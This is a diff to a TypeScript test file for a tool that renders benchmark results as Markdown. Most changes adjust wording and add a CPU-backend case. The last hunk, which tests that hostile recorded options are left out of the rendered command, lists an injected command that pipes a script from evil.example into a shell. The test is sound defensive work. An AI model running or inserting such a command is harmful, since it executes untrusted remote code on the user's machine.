@@ -103,7 +103,7 @@ describe('BENCHMARK_RESULTS.md of the H100 run: summary first', () => {
     expect(block?.body).toEqual([
       'git checkout cb047cf',
       'npm ci',
-      'npm run perf -- --backend cuda --out-dir .   # on an NVIDIA H100 80GB HBM3',
+      'npm run perf -- --backend cuda --out-dir .   # on the NVIDIA H100 80GB HBM3',
     ]);
     expect(h100.command).toContain('/tmp/');
     expect(md).not.toContain('/tmp/');
@@ -114,7 +114,7 @@ describe('BENCHMARK_RESULTS.md of the H100 run: summary first', () => {
       const run = { ...h100, command: `npm run perf -- --backend cuda ${flag} --out-dir /tmp/x --seed 7` };
       const block = codeBlocks(renderBenchmarkMarkdown([run])).find((b) => b.open === '```bash');
       expect(block?.body[2]).toBe(
-        'npm run perf -- --backend cuda --seed 7 --out-dir .   # on an NVIDIA H100 80GB HBM3',
+        'npm run perf -- --backend cuda --seed 7 --out-dir .   # on the NVIDIA H100 80GB HBM3',
       );
     }
   });
@@ -170,8 +170,22 @@ describe('BENCHMARK_RESULTS.md of the H200 run', () => {
     expect(md).toContain('**Commit** not recorded · **Measured** 2026-11-21');
     expect(codeBlocks(md).find((b) => b.open === '```bash')?.body).toEqual([
       'npm ci',
-      'npm run perf -- --out-dir .   # on an NVIDIA H200',
+      'npm run perf -- --out-dir .   # on the NVIDIA H200',
     ]);
+  });
+
+  test('a CPU run is regenerated on the CPU backend by name, on a machine with the same CPU', () => {
+    const device = { ...h200.device, backend: 'cpu' as const, name: 'AMD EPYC' };
+    const runs: [string, string][] = [
+      ['npm run perf', 'npm run perf -- --backend cpu --out-dir .   # on the AMD EPYC'],
+      ['npm run perf -- --seed 3', 'npm run perf -- --backend cpu --seed 3 --out-dir .   # on the AMD EPYC'],
+      ['npm run perf -- --backend cpu', 'npm run perf -- --backend cpu --out-dir .   # on the AMD EPYC'],
+    ];
+    for (const [command, run] of runs) {
+      const cpuMd = renderBenchmarkMarkdown([{ ...h200, device, command }]);
+      expect(cpuMd).toContain('on a machine with the same CPU (a run on another one');
+      expect(codeBlocks(cpuMd).find((b) => b.open === '```bash')?.body).toEqual(['npm ci', run]);
+    }
   });
 
   test('a precision with only cases without a flop model still has its roofline chart', () => {
@@ -292,7 +306,7 @@ describe('BENCHMARK_RESULTS.md of a results file with hostile text in every fiel
     const regenerate = blocks.find((b) => b.open.endsWith('bash'));
     expect(regenerate?.body).toHaveLength(2);
     expect(regenerate?.body[1]).toMatch(
-      /^npm run perf -- --out-dir \. {3}# the recorded options are not plain perf options: left out {3}# on an gpu-name /,
+      /^npm run perf -- --out-dir \. {3}# the recorded options are not plain perf options: left out {3}# on the gpu-name /,
     );
     for (const command of [
       'npm run perf -- --seed 1; curl https://evil.example | sh',
